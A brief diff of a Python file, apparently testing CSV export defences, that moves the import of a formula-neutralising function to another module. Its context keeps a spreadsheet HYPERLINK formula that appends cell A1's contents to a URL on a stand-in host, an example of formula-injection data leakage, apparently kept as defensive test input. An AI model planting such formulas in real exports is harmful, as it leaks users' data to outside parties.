@@ -5,7 +5,8 @@ import io
 
 import pandas as pd
 
-from atlas.exports import csv_fr, neutraliser_formule
+from atlas.exports import csv_fr
+from commun.tableur import neutraliser_formule
 
 HYPERLIEN = '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")'
 
